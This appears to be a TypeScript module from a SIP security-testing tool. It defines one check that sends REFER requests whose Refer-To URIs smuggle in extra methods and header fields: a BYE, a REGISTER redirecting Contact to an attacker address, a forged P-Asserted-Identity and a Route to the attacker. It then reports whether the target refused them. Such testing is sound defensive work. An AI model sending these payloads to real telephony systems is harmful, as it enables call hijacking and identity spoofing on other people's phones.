import { attack } from '../attack.ts'
import { answered, reach } from '../reach.ts'
import { REFER_MENDING } from '../refer-mending.ts'

/** Methods and header fields in a Refer-To: the phone says them as its own, with its own credentials. */
export const referWithWords = attack({
  id: 'refer-with-words',
  entry: 'D08',
  title: "has a phone say the attacker's words, by methods and fields in Refer-To",
  threats: ['referee-in-the-middle'],
  clause: '§3.3, REFER enables man-in-the-middle attacks',
  references: ['RFC 3515 §2.1', 'RFC 3261 §19.1.5'],
  severity: 'medium',
  isIntrusive: false,
  maxMessages: 80,
  needs: ['two-accounts'],
  expected: 'A Refer-To asks for INVITE and may carry Replaces; other methods and fields are refused.',
  mending: {
    ...REFER_MENDING,
    aspis:
      'On by default: methods and fields of a Refer-To other than Replaces and Require are refused (403).',
  },
  async run(trial) {
    const [alice, bob] = [await trial.registered(0), await trial.registered(1)]
    const { domain } = trial.target
    const refer = (to: string) => ({ method: 'REFER', uri: bob.aor, lines: [`Refer-To: <${to}>`] })
    const honest = await reach(alice, bob, refer(alice.aor))
    const targets = [
      `${alice.aor};method=BYE`,
      `sip:${domain};method=REGISTER?Contact=%3Csip%3Aattacker%40192.0.2.66%3E`,
      `${alice.aor}?P-Asserted-Identity=%3Csip%3Achief%40${domain}%3E`,
      `${alice.aor}?Route=%3Csip%3A192.0.2.66%3Blr%3E`,
    ]
    let reached = 0
    const refused: string[] = []
    for (const target of targets) {
      const { answer, request } = await reach(alice, bob, refer(target))
      if (request === undefined) refused.push(answered(answer))
      else reached++
    }
    const counts = { tried: targets.length, reached }
    if (reached > 0)
      return trial.succeeded(
        `${reached} of ${targets.length} REFERs with words of the attacker came to the phone`,
        counts,
      )
    const others = honest.request === undefined ? 'as no REFER does' : 'while a plain one came'
    return trial.resisted(
      `none of ${targets.length} came to the phone, ${others}: ${refused.join('; ')}`,
      counts,
    )
  },
})
